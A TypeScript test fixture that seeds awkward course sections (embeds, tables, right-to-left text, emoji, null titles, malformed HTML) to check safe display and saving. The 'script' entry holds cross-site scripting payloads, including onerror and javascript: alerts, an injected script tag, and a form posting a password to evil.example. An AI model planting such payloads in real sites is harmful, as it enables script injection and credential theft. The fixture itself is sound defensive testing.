import type { StoredRecord } from '../db.ts';
import { AWKWARD_SECTIONS, COURSES } from './ids.ts';
import { sectionOf } from './sectionOf.ts';

/** Sections as years of use leave them behind: each must be shown, opened and saved without harm. */
const longTitle = [
  'Everything that a new member of the workshop has to read, sign and understand before the first visit, including',
  'the rules of the house, the rules of the machines, the rules of the yard, the names of the people who may say no,',
  'and a word that nobody can break:',
  'x'.repeat(209),
  '(part one)',
].join(' ');

const awkward: Record<keyof typeof AWKWARD_SECTIONS, Record<string, unknown>> = {
  embed: {
    Title: 'Video tour',
    SectionContents:
      '<figure class="media"><iframe src="https://www.youtube-nocookie.com/embed/aqz-KE-bpKQ" width="560" height="315" title="Tour" allow="fullscreen" allowfullscreen></iframe><figcaption>Four minutes through the house</figcaption></figure><p data-track="tour">Then come by.</p>',
  },
  table: {
    Title: 'Prices & opening hours',
    SectionContents:
      '<table border="1" cellpadding="4" style="width:100%"><caption>Opening hours</caption><thead><tr><th scope="col">Day</th><th colspan="2">Hours</th></tr></thead><tbody><tr><td rowspan="2">Mon–Thu</td><td>8:00</td><td>20:00</td></tr><tr><td colspan="2"><font color="red">Closed on holidays</font></td></tr></tbody></table><center>See you!</center>',
  },
  rightToLeft: {
    Title: 'مرحباً — ברוכים הבאים \u202Eabc\u202C',
    SectionContents: '<p dir="rtl">أهلاً وسهلاً بكم في <b>Harbour House</b>، الطابق 3.</p>',
  },
  emoji: {
    Title: 'Say hello 👋🏽 to the 👩‍👩‍👧‍👦 family 🏴󠁧󠁢󠁳󠁣󠁴󠁿 cafe\u0301',
    SectionContents: '<p>☕️ + 🥐 = 🙂</p>',
  },
  longTitle: { Title: longTitle },
  nullTitle: { Title: null, SectionContents: '<p>This section never had a title.</p>' },
  emptyTitle: { Title: '' },
  unlockType99: { Title: 'Unlocked by the door system', UnlockType: 99, UnlockAfterDays: 5 },
  unlockType0: { Title: 'Without an unlock rule', UnlockType: 0 },
  crlf: {
    Title: 'Written on another system',
    SectionContents: '<p>First line</p>\r\n<p>Second line</p>\r\n\r\n<pre>  two\r\n  more</pre>\r\n',
  },
  script: {
    Title: '<img src=x onerror=alert(1)> & "quotes"',
    SectionContents:
      '<p onclick="alert(2)">Click</p><script>document.title="taken over"</script><img src="x" onerror="alert(3)"><a href="javascript:alert(4)">link</a><form action="https://evil.example/"><input name="password"></form><style>body{display:none}</style>',
    UpdatedBy: '"><script>alert(5)</script>@example.com',
  },
  thumbnail: { Title: 'With a thumbnail', ImageFileName: 'summer party 100%.JPG' },
  customFields: {
    Title: 'With fields of its own',
    SystemId: 'LMS-00417',
    CustomFields: {
      Data: [
        { Name: 'Trainer', Value: 'Ines' },
        { Name: 'Room', Value: null },
      ],
    },
    LocalizationDetails: { es: { Title: 'Con campos propios' }, fr: null },
  },
  unknownProperty: {
    Title: 'With a property of a later version',
    CompletionRule: { Kind: 'Quiz', PassMark: 0.8, Attempts: [1, 2, null] },
    IsFeatured: true,
  },
  negativeDays: {
    Title: 'Counted backwards',
    UnlockType: 3,
    UnlockAfterDays: -3,
    CreatedOn: '0001-01-01T00:00:00',
    UpdatedOn: 'yesterday',
    UpdatedBy: null,
  },
  malformed: {
    Title: '  Pasted from a word processor  ',
    SectionContents:
      '<p class="MsoNormal" style="mso-margin-top-alt:auto">Smart “quotes”<o:p></o:p><b><i>unclosed</b></i><p>No end<br><!-- StartFragment --><ul><li>one<li>two</ul><div id=plain data-x=1>&nbsp;&#8203;</div>',
  },
};

export const awkwardSeedSections: readonly StoredRecord[] = Object.entries(awkward).map(
  ([name, properties], index) =>
    sectionOf(AWKWARD_SECTIONS[name as keyof typeof AWKWARD_SECTIONS], COURSES.imported, {
      DisplayOrder: index + 1,
      ...properties,
    }),
);
